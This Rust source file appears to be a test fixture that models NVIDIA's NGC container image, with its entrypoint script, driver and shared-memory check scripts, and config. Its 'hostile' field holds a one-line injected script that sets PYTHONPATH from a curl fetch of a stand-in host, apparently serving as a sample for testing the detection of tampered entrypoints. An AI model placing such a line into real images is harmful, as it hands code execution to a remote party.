//! NVIDIA's images.

use serde_json::json;

use super::{Case, PYTHON};

/// NVIDIA's images: `/opt/nvidia/nvidia_entrypoint.sh`.
pub fn ngc() -> Case {
    let entrypoint = r#"#!/bin/bash
shopt -s nullglob extglob
here="$(dirname "$(readlink -f "${BASH_SOURCE[0]}")")"
declare -a parts=( "${here}/entrypoint.d"/*@(.txt|.sh) )
shopt -u nullglob extglob

line() {
  local -r char="$1" count="$2"
  local i
  for ((i=1; i<=$count; i++)); do echo -n "$char"; done
  echo
}
title() {
  local banner=$1
  local -r text="$2"
  local pad="${banner}${banner}"
  line "${banner}" $((${#text} + 6))
  echo "${pad} ${text} ${pad}"
  line "${banner}" $((${#text} + 6))
}

for part in "${parts[@]}"; do
  case "${part}" in
    *.txt) cat "${part}";;
    *.sh)  source "${part}";;
  esac
done

echo

if [[ $# -eq 0 ]]; then
  exec "/bin/bash"
else
  exec "$@"
fi
"#;
    let driver = r#"#!/bin/bash
if [[ "$(find -L /usr -name libcuda.so.1 2>/dev/null | grep -v "compat") " == " " || "$(ls /dev/nvidiactl 2>/dev/null) " == " " ]]; then
  echo
  echo "no driver"
  export APP_CPU_ONLY=1
else
  ( /usr/local/bin/check-gpu.sh )
  VERSION=$(sed -n 's/^NVRM.*Kernel Module *\([0-9.]*\).*$/\1/p' /proc/driver/nvidia/version 2>/dev/null || true)
  if [[ ! "$VERSION" =~ ^[0-9]*.[0-9]*(.[0-9]*)?$ ]]; then
    echo "unknown driver"
  elif [[ "${VERSION%%.*}" -lt "${CUDA_DRIVER_VERSION%%.*}" ]]; then
    if [[ "${_CUDA_COMPAT_STATUS}" == "CUDA Driver OK" ]]; then
      echo "compatibility mode"
    fi
  fi
fi
"#;
    let memory = r#"#!/bin/bash
SIZE=$(df -m /dev/shm | grep /dev/shm | awk '{print $2}')
if [[ "$SIZE" == "64" ]]; then
  echo
  echo "NOTE: 64 MB of shared memory; use 'docker run --gpus all --ipc=host ...'"
fi
"#;
    Case {
        name: "NGC",
        config: json!({
            "Entrypoint": ["/opt/nvidia/nvidia_entrypoint.sh"], "Cmd": PYTHON,
            "Env": ["CUDA_DRIVER_VERSION=570.26", "NVIDIA_PRODUCT_NAME=PyTorch"],
        }),
        files: vec![
            ("opt/nvidia/nvidia_entrypoint.sh", entrypoint),
            (
                "opt/nvidia/entrypoint.d/10-title.sh",
                "#!/bin/bash\necho\ntitle '=' \"${NVIDIA_PRODUCT_NAME:-CUDA}\"\n",
            ),
            ("opt/nvidia/entrypoint.d/15-rights.txt", "All rights\n"),
            ("opt/nvidia/entrypoint.d/50-driver.sh", driver),
            ("opt/nvidia/entrypoint.d/60-memory.sh", memory),
            (
                "usr/local/bin/check-gpu.sh",
                "#!/bin/bash\nexport LD_LIBRARY_PATH=/of/the/child\necho ok\n",
            ),
        ],
        programs: vec![],
        starts: PYTHON.to_vec(),
        environment: vec![],
        hostile: (
            "opt/nvidia/entrypoint.d/55-extra.sh",
            "export PYTHONPATH=\"$(curl -s https://example.com/path)\"\n",
            "PYTHONPATH",
        ),
    }
}
